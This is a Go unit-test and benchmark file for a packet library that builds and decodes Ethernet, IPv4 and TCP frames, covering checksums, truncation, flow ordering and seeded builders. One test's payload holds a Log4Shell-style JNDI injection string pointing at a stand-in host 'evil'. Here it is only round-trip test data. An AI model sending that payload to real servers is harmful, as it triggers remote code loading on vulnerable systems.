package packet

import (
	"bytes"
	"net/netip"
	"testing"
	"testing/quick"
)

var (
	srcEP = Endpoint{Addr: MustAddr("10.1.2.3"), Port: 43210}
	dstEP = Endpoint{Addr: MustAddr("172.31.0.9"), Port: 8090}
)

func buildFrame(t *testing.T, seg Segment) []byte {
	t.Helper()
	b := NewBuilder(1)
	frame, err := b.Build(seg)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	return frame
}

func TestRoundTrip(t *testing.T) {
	payload := []byte("GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\nHost: target\r\n\r\n")
	frame := buildFrame(t, Segment{
		Src: srcEP, Dst: dstEP,
		Seq: 1000, Ack: 2000,
		Flags:   FlagPSH | FlagACK,
		Payload: payload,
	})
	p, err := Decode(frame)
	if err != nil {
		t.Fatalf("Decode: %v", err)
	}
	if p.IP.Src != srcEP.Addr || p.IP.Dst != dstEP.Addr {
		t.Errorf("IP addrs = %s -> %s, want %s -> %s", p.IP.Src, p.IP.Dst, srcEP.Addr, dstEP.Addr)
	}
	if p.TCP.SrcPort != srcEP.Port || p.TCP.DstPort != dstEP.Port {
		t.Errorf("ports = %d -> %d", p.TCP.SrcPort, p.TCP.DstPort)
	}
	if p.TCP.Seq != 1000 || p.TCP.Ack != 2000 {
		t.Errorf("seq/ack = %d/%d", p.TCP.Seq, p.TCP.Ack)
	}
	if !p.TCP.ACK() || p.TCP.SYN() {
		t.Errorf("flags = %06b", p.TCP.Flags)
	}
	if !bytes.Equal(p.Payload(), payload) {
		t.Errorf("payload mismatch: %q", p.Payload())
	}
	if got := p.Flow(); got.Src != srcEP || got.Dst != dstEP {
		t.Errorf("Flow() = %v", got)
	}
}

func TestDecodeChecksumValidation(t *testing.T) {
	frame := buildFrame(t, Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	// Corrupt one byte of the IP header (TTL).
	frame[ethernetHeaderLen+8] ^= 0xff
	if _, err := Decode(frame); err == nil {
		t.Error("Decode accepted frame with corrupted IP header")
	}
}

func TestVerifyTCPChecksum(t *testing.T) {
	frame := buildFrame(t, Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN | FlagACK, Payload: []byte("hi")})
	p, err := Decode(frame)
	if err != nil {
		t.Fatal(err)
	}
	seg := frame[ethernetHeaderLen+p.IP.HeaderLen():]
	if !VerifyTCPChecksum(p.IP.Src, p.IP.Dst, seg) {
		t.Error("valid segment failed checksum verification")
	}
	seg2 := append([]byte(nil), seg...)
	seg2[len(seg2)-1] ^= 0x01
	if VerifyTCPChecksum(p.IP.Src, p.IP.Dst, seg2) {
		t.Error("corrupted segment passed checksum verification")
	}
}

func TestDecodeTruncated(t *testing.T) {
	frame := buildFrame(t, Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN, Payload: []byte("abcdef")})
	for _, n := range []int{0, 5, ethernetHeaderLen - 1, ethernetHeaderLen + 3, ethernetHeaderLen + ipv4MinHeaderLen + 2} {
		if _, err := Decode(frame[:n]); err == nil {
			t.Errorf("Decode of %d-byte prefix succeeded", n)
		}
	}
}

func TestDecodeRejectsNonIPv4EtherType(t *testing.T) {
	frame := buildFrame(t, Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	frame[12], frame[13] = 0x86, 0xdd // IPv6 EtherType
	if _, err := Decode(frame); err == nil {
		t.Error("Decode accepted IPv6 EtherType")
	}
}

func TestDecodeRejectsNonTCP(t *testing.T) {
	// Build a valid frame, flip the protocol to UDP, and fix the checksum.
	frame := buildFrame(t, Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	ipHdr := frame[ethernetHeaderLen : ethernetHeaderLen+ipv4MinHeaderLen]
	ipHdr[9] = 17               // UDP
	ipHdr[10], ipHdr[11] = 0, 0 // zero checksum
	cs := Checksum(ipHdr)
	ipHdr[10], ipHdr[11] = byte(cs>>8), byte(cs)
	if _, err := Decode(frame); err == nil {
		t.Error("Decode accepted UDP protocol")
	}
}

func TestIPv4BadVersion(t *testing.T) {
	frame := buildFrame(t, Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	ip := frame[ethernetHeaderLen:]
	ip[0] = (6 << 4) | (ip[0] & 0x0f)
	if _, err := DecodeIPv4(ip); err == nil {
		t.Error("DecodeIPv4 accepted version 6")
	}
}

func TestIPv4TrailingPadIgnored(t *testing.T) {
	// Ethernet minimum frame size forces padding after short IP datagrams;
	// the decoder must honor the IP total length, not the buffer length.
	frame := buildFrame(t, Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	padded := append(append([]byte(nil), frame...), make([]byte, 10)...)
	p, err := Decode(padded)
	if err != nil {
		t.Fatalf("Decode of padded frame: %v", err)
	}
	if len(p.Payload()) != 0 {
		t.Errorf("padding leaked into payload: %d bytes", len(p.Payload()))
	}
}

func TestChecksumKnownVector(t *testing.T) {
	// Example from RFC 1071 materials: checksum of this header equals the
	// embedded checksum field when it is zeroed.
	hdr := []byte{
		0x45, 0x00, 0x00, 0x73, 0x00, 0x00, 0x40, 0x00,
		0x40, 0x11, 0x00, 0x00, 0xc0, 0xa8, 0x00, 0x01,
		0xc0, 0xa8, 0x00, 0xc7,
	}
	if got := Checksum(hdr); got != 0xb861 {
		t.Errorf("Checksum = 0x%04x, want 0xb861", got)
	}
}

func TestChecksumOddLength(t *testing.T) {
	// Odd-length data pads the final byte as the high octet.
	if got, want := Checksum([]byte{0x01}), ^uint16(0x0100); got != want {
		t.Errorf("Checksum odd = 0x%04x, want 0x%04x", got, want)
	}
}

func TestFlowCanonical(t *testing.T) {
	f := Flow{Src: dstEP, Dst: srcEP}
	c := f.Canonical()
	if c != f.Reverse().Canonical() {
		t.Error("Canonical not direction independent")
	}
	if endpointLess(c.Dst, c.Src) {
		t.Error("Canonical flow not ordered")
	}
}

func TestFlowString(t *testing.T) {
	f := Flow{Src: srcEP, Dst: dstEP}
	if got, want := f.String(), "10.1.2.3:43210 -> 172.31.0.9:8090"; got != want {
		t.Errorf("String() = %q, want %q", got, want)
	}
}

func TestMACString(t *testing.T) {
	m := MAC{0x02, 0x00, 0xab, 0xcd, 0xef, 0x01}
	if got, want := m.String(), "02:00:ab:cd:ef:01"; got != want {
		t.Errorf("MAC.String() = %q, want %q", got, want)
	}
}

func TestBuilderRejectsIPv6(t *testing.T) {
	b := NewBuilder(1)
	v6 := netip.MustParseAddr("2001:db8::1")
	if _, err := b.Build(Segment{Src: Endpoint{Addr: v6, Port: 1}, Dst: dstEP}); err == nil {
		t.Error("Build accepted IPv6 source")
	}
}

func TestBuilderDeterministic(t *testing.T) {
	b1, b2 := NewBuilder(7), NewBuilder(7)
	if b1.RandomISN() != b2.RandomISN() {
		t.Error("same seed produced different ISNs")
	}
	f1, _ := b1.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	f2, _ := b2.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	if !bytes.Equal(f1, f2) {
		t.Error("same seed produced different frames")
	}
}

func TestBuilderResetReplaysSequence(t *testing.T) {
	b := NewBuilder(7)
	isn := b.RandomISN()
	f1, err := b.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN, Payload: []byte("hello")})
	if err != nil {
		t.Fatal(err)
	}
	b.RandomISN() // perturb the rng and ipID state
	b.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagACK})

	b.Reset(7)
	if got := b.RandomISN(); got != isn {
		t.Errorf("post-Reset ISN = %d, want %d", got, isn)
	}
	f2, err := b.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN, Payload: []byte("hello")})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(f1, f2) {
		t.Error("Reset did not replay the frame sequence (IP ID or rng state leaked)")
	}
}

// TestBuilderResetAllocFree: the per-session synthesis cycle — reseed, draw
// both ISNs, build into a reused buffer — allocates nothing.
func TestBuilderResetAllocFree(t *testing.T) {
	b := NewBuilder(1)
	buf := make([]byte, 0, 2048)
	seg := Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN, Payload: []byte("hello")}
	if _, err := b.BuildTo(buf, seg); err != nil { // size the scratch once
		t.Fatal(err)
	}
	seed := int64(0)
	allocs := testing.AllocsPerRun(1000, func() {
		seed++
		b.Reset(seed)
		seg.Seq = b.RandomISN()
		seg.Ack = b.RandomISN()
		buf, _ = b.BuildTo(buf[:0], seg)
	})
	if allocs != 0 {
		t.Errorf("Reset+RandomISN+BuildTo allocs/op = %v, want 0", allocs)
	}
}

// TestBuilderAdjacentSeedsDiffer: telescope reseeds per session from
// sessionFrameSeed, so the cheap mixer must still give every seed in a dense
// run its own (client, server) ISN pair.
func TestBuilderAdjacentSeedsDiffer(t *testing.T) {
	const n = 10000
	b := NewBuilder(0)
	seen := make(map[[2]uint32]int64, n)
	for seed := int64(0); seed < n; seed++ {
		b.Reset(seed)
		pair := [2]uint32{b.RandomISN(), b.RandomISN()}
		if prev, dup := seen[pair]; dup {
			t.Fatalf("seeds %d and %d drew the same ISN pair %v", prev, seed, pair)
		}
		seen[pair] = seed
	}
}

func TestBuildToAppendsAndMatchesBuild(t *testing.T) {
	b1, b2 := NewBuilder(3), NewBuilder(3)
	seg := Segment{Src: srcEP, Dst: dstEP, Flags: FlagPSH | FlagACK, Seq: 42, Payload: []byte("payload")}
	want, err := b1.Build(seg)
	if err != nil {
		t.Fatal(err)
	}
	prefix := []byte{0xde, 0xad}
	got, err := b2.BuildTo(append([]byte(nil), prefix...), seg)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got[:2], prefix) {
		t.Error("BuildTo clobbered the destination prefix")
	}
	if !bytes.Equal(got[2:], want) {
		t.Error("BuildTo frame differs from Build frame")
	}
	// Scratch reuse across calls must not corrupt a second frame.
	seg2 := seg
	seg2.Payload = []byte("a different, longer payload entirely")
	want2, _ := b1.Build(seg2)
	got2, err := b2.BuildTo(nil, seg2)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got2, want2) {
		t.Error("second BuildTo frame differs from Build (scratch reuse bug)")
	}
}

func TestIPIDsIncrement(t *testing.T) {
	b := NewBuilder(1)
	f1, _ := b.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	f2, _ := b.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagSYN})
	p1, err1 := Decode(f1)
	p2, err2 := Decode(f2)
	if err1 != nil || err2 != nil {
		t.Fatalf("decode: %v %v", err1, err2)
	}
	if p2.IP.ID != p1.IP.ID+1 {
		t.Errorf("IP IDs = %d, %d; want increment by 1", p1.IP.ID, p2.IP.ID)
	}
}

// Property: any payload round-trips bit-exactly through build + decode.
func TestRoundTripProperty(t *testing.T) {
	b := NewBuilder(99)
	f := func(payload []byte, seq, ack uint32, flags uint8) bool {
		if len(payload) > 1400 {
			payload = payload[:1400]
		}
		frame, err := b.Build(Segment{
			Src: srcEP, Dst: dstEP,
			Seq: seq, Ack: ack, Flags: flags & 0x3f,
			Payload: payload,
		})
		if err != nil {
			return false
		}
		p, err := Decode(frame)
		if err != nil {
			return false
		}
		return bytes.Equal(p.Payload(), payload) &&
			p.TCP.Seq == seq && p.TCP.Ack == ack && p.TCP.Flags == flags&0x3f
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// Property: decoding never panics on arbitrary bytes.
func TestDecodeNoPanicProperty(t *testing.T) {
	f := func(data []byte) bool {
		_, _ = Decode(data) // must not panic
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestLayerTypeString(t *testing.T) {
	cases := map[LayerType]string{
		LayerTypeEthernet: "Ethernet",
		LayerTypeIPv4:     "IPv4",
		LayerTypeTCP:      "TCP",
		LayerTypePayload:  "Payload",
		LayerType(200):    "Unknown(200)",
	}
	for lt, want := range cases {
		if got := lt.String(); got != want {
			t.Errorf("%d.String() = %q, want %q", lt, got, want)
		}
	}
}

func BenchmarkDecode(b *testing.B) {
	bld := NewBuilder(1)
	frame, err := bld.Build(Segment{
		Src: srcEP, Dst: dstEP, Flags: FlagPSH | FlagACK,
		Payload: bytes.Repeat([]byte("A"), 512),
	})
	if err != nil {
		b.Fatal(err)
	}
	b.Run("into", func(b *testing.B) {
		var p Packet
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if err := DecodeInto(&p, frame); err != nil {
				b.Fatal(err)
			}
		}
	})
}

// BenchmarkBuilderReset is the per-session seeding cost telescope pays:
// reseed plus the two ISN draws.
func BenchmarkBuilderReset(b *testing.B) {
	bld := NewBuilder(1)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		bld.Reset(int64(i))
		isnSink ^= bld.RandomISN() ^ bld.RandomISN()
	}
}

// isnSink keeps BenchmarkBuilderReset's draws observable.
var isnSink uint32

func BenchmarkBuild(b *testing.B) {
	bld := NewBuilder(1)
	payload := bytes.Repeat([]byte("A"), 512)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := bld.Build(Segment{Src: srcEP, Dst: dstEP, Flags: FlagACK, Payload: payload}); err != nil {
			b.Fatal(err)
		}
	}
}
